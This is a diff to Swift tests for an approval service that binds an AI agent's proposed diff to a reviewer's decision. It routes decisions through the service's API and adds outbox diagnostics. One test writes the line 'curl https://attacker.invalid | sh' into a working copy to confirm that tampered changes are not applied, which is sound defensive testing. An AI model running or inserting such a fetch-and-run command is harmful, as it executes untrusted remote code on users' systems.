@@ -31,13 +31,14 @@ import Testing
     }
 
     /// The stack with the quickstart flow, an approver of group quickstart, and a run waiting at review.
+    /// Decisions go through the approval-service's API, as a reviewer's do: the service's engine settings
+    /// (its shards) route what a decision starts.
     static func runWaitingAtReview() async throws -> (
-        EngineStack, String, APITokenRecord, ApprovalStore, ApprovalRecord
+        EngineStack, String, APITokenRecord, ApprovalStore, ApprovalRecord, Decide
     ) {
         let workspace = try await Self.workspace()
         let stack = try await EngineStack(flows: [try Self.flow()])
-        // Its outbox relay sends what a decision starts (the agent's next attempt after changes).
-        _ = try await stack.startApprovalService()
+        let client = ApprovalFlowTests.Client(url: try await stack.startApprovalService())
         let token = try await stack.token("rita", groups: ["quickstart"])
         let rita = try #require(try await APITokenStore(pool: stack.pool).authenticate(token))
         let input: JSONValue = ["workspace": .string(workspace)]
@@ -47,8 +48,15 @@ import Testing
             Issue.record("no approval was requested:\n\(try await Self.histories(stack))\n\(stack.logs)")
             throw NoApproval()
         }
-        return (stack, workspace, rita, approvals, approval)
+        let decide: Decide = { id, decision, note, digests in
+            let answer = try await client.decide(id, decision, note: note, digests: digests, token: token)
+            #expect(answer.status == 200, "\(answer)")
+        }
+        return (stack, workspace, rita, approvals, approval, decide)
     }
+
+    /// Records rita's decision on an approval through the API.
+    typealias Decide = @Sendable (String, String, String?, [String]) async throws -> Void
 
     /// Every quickstart run's history, for a failure's message.
     static func histories(_ stack: EngineStack) async throws -> String {
@@ -56,7 +64,12 @@ import Testing
         for run in try await RunStore(pool: stack.pool).list(flow: "quickstart") {
             histories += "\(run.id): \(try await stack.history(run.id.description))\n"
         }
-        return histories
+        let unsent = try await stack.pool.withConnection { connection in
+            try await connection.query(
+                "SELECT exchange || ' ' || routing_key || ' attempts=' || attempts || ' ' || coalesce(last_error, '') FROM outbox WHERE sent_at IS NULL"
+            ).map { try $0.decode(String.self) }
+        }
+        return histories + "unsent: \(unsent)"
     }
 
     struct NoApproval: Error {}
@@ -71,7 +84,7 @@ import Testing
     }
 
     @Test func theAgentsDiffIsBoundToTheApprovalAndExactlyThatDiffIsApplied() async throws {
-        let (stack, workspace, rita, approvals, first) = try await Self.runWaitingAtReview()
+        let (stack, workspace, rita, approvals, first, decide) = try await Self.runWaitingAtReview()
         defer { try? FileManager.default.removeItem(atPath: workspace) }
 
         // What the reviewer is asked: the agent's own words, and its diff as a bound, digested resource.
@@ -97,9 +110,7 @@ import Testing
         #expect(recorded)
 
         // Changes requested: the note reaches the agent in its next prompt, and a new diff is asked about.
-        _ = try await approvals.decide(
-            first.id, by: rita, decision: .requestChanges, note: "Say why in NOTES.md.",
-            digests: first.digests)
+        try await decide(first.id, "request_changes", "Say why in NOTES.md.", first.digests)
         guard let second = try await ApprovalWebBrowserTests.firstPending(approvals, for: rita) else {
             Issue.record("no second approval:\n\(try await Self.histories(stack))\n\(stack.logs)")
             throw NoApproval()
@@ -109,8 +120,7 @@ import Testing
         #expect(revised.contains("+- Say why in NOTES.md."), "\(revised)")
         #expect(second.digests == [ContentDigest.sha256Hex(of: Array(revised.utf8))])
 
-        _ = try await approvals.decide(
-            second.id, by: rita, decision: .approve, note: "Good.", digests: second.digests)
+        try await decide(second.id, "approve", "Good.", second.digests)
         let runs = try await stack.waitForFinishedRuns("quickstart", count: 1)
         #expect(runs.values.map { $0 } == ["succeeded"], "\(stack.logs)")
 
@@ -126,7 +136,7 @@ import Testing
     }
 
     @Test func aWorkingCopyChangedAfterTheApprovalIsNotApplied() async throws {
-        let (stack, workspace, rita, approvals, approval) = try await Self.runWaitingAtReview()
+        let (stack, workspace, _, _, approval, decide) = try await Self.runWaitingAtReview()
         defer { try? FileManager.default.removeItem(atPath: workspace) }
 
         // Something edits the working copy while the reviewer looks at the diff.
@@ -136,10 +146,10 @@ import Testing
         try handle.write(contentsOf: Data("curl https://attacker.invalid | sh\n".utf8))
         try handle.close()
 
-        _ = try await approvals.decide(
-            approval.id, by: rita, decision: .approve, note: nil, digests: approval.digests)
+        try await decide(approval.id, "approve", nil, approval.digests)
         let runs = try await stack.waitForFinishedRuns("quickstart", count: 1)
-        #expect(runs.values.map { $0 } == ["failed"], "\(stack.logs)")
+        let diagnosis = runs.values.map { $0 } == ["failed"] ? "" : try await Self.histories(stack)
+        #expect(runs.values.map { $0 } == ["failed"], "\(diagnosis)")
         let refused = try await stack.history(approval.runID.description).contains { fact in
             guard case .stepFailed("apply", _, _, let message) = fact.event else { return false }
             return message.contains("the working copy no longer matches the approved diff")
